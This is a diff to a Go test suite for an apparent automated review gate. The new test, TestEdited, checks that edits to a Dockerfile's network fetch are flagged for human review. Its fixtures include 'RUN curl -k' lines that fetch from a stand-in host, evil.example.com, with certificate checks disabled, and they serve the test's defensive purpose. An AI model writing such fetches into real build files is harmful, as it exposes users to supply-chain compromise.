@@ -146,7 +146,7 @@ func TestLaw(t *testing.T) {
 				t.Errorf("%s to %s: the %s lacks %v", base, head, half.what, missing)
 			}
 		}
-		if news := len(got.New) + len(got.About); news == 0 && got.Verdict != review.Approve {
+		if news := len(got.New) + len(got.About) + got.Counts().Edited; news == 0 && got.Verdict != review.Approve {
 			t.Errorf("%s to %s: %s without news", base, head, got.Verdict)
 		}
 	}
@@ -220,6 +220,27 @@ func TestLinkedTrust(t *testing.T) {
 	want := []string{"warning GateConfigChanged etc/l.yaml", "blocker GateTrustChanged etc/loopx/allowed_signers"}
 	if diff := cmp.Diff(want, about); diff != "" || got.Verdict != review.RequestChanges {
 		t.Errorf("%s %s", got.Verdict, diff)
+	}
+}
+
+// TestEdited holds that a blocker which was there hides nothing: another fetch under
+// the same switch is for a person to look at.
+func TestEdited(t *testing.T) {
+	t.Parallel()
+	r := gitbed.New(t)
+	const head, tail = "FROM debian\nARG HOST=good\nRUN curl -k https://$HOST.example.com/x\n", "RUN true\n"
+	base := r.Commit("main", "", gitbed.Files{"Dockerfile": gitbed.Text(head)})
+	repo := open(t, r)
+	for text, want := range map[string]review.Verdict{
+		"FROM debian\nARG HOST=good\nRUN true\nRUN curl -k https://$HOST.example.com/x\n": review.Approve,
+		"FROM debian\nARG HOST=good\nRUN curl -k https://evil.example.com/x\n":            review.Comment,
+		"FROM debian\nARG HOST=evil\nRUN curl -k https://$HOST.example.com/x\n":           review.Comment,
+		head + tail: review.Approve,
+	} {
+		got := compare(t, repo, base, r.Commit("topic", base, gitbed.Files{"Dockerfile": gitbed.Text(text)}), nil)
+		if got.Verdict != want || len(got.New) != 0 || (got.Counts().Edited == 1) != (want == review.Comment) {
+			t.Errorf("%q: %s, new %v, %+v", text, got.Verdict, names(got.New), got.Counts())
+		}
 	}
 }
 
